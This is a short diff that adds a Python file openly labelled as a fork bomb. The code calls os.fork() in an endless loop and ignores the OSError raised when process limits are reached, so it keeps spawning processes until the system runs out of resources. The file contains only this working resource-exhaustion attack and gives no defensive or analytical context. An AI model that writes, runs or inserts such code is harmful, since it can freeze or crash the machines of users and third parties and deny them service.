@@ -1,0 +1,8 @@
+# A fork bomb that does not mind being refused.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
